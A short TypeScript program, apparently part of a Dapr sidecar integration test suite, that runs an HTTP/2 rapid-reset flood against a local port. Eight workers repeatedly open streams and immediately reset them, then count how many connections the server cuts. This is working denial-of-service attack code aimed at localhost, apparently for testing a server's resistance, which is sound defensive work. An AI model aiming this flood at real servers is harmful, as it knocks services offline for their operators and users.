/** A program, `reset-attacker.ts PORT MS`: eight callers open and reset streams of HTTP/2, connection after connection; prints how many were cut. */
import net from 'node:net'
import {setTimeout as pause} from 'node:timers/promises'
import {PREFACE, request, reset} from '../integration/dapr/sidecar/frames.ts'

const [port = 0, ms = 0] = process.argv.slice(2).map(Number)
const UNFINISHED = {':method': 'POST', ':path': '/a.B/C', 'content-type': 'application/grpc', te: 'trailers'}
const REFUSED = {':method': 'POST', ':path': '/a.B/C', 'content-type': 'text/plain'}
const end = performance.now() + ms
let cut = 0

async function attack(): Promise<void> {
  const socket = net.connect(port, '127.0.0.1')
  const closed = new Promise(resolve =>
    socket
      .on('error', () => undefined)
      .resume()
      .once('close', resolve)
  )
  socket.write(PREFACE + request(1, UNFINISHED, 0), 'latin1')
  for (let stream = 3; !socket.destroyed; await pause(2)) {
    if (performance.now() > end) return void socket.destroy()
    let piece = ''
    for (let n = 0; n < 100; n++, stream += 2) piece += request(stream, REFUSED, 0) + reset(stream, 8)
    if (!socket.write(piece, 'latin1'))
      await Promise.race([new Promise(resolve => socket.once('drain', resolve)), closed])
  }
  cut++
}

await Promise.all(
  Array.from({length: 8}, async () => {
    for (; performance.now() < end; await pause(100)) await attack()
  })
)
console.log(cut)
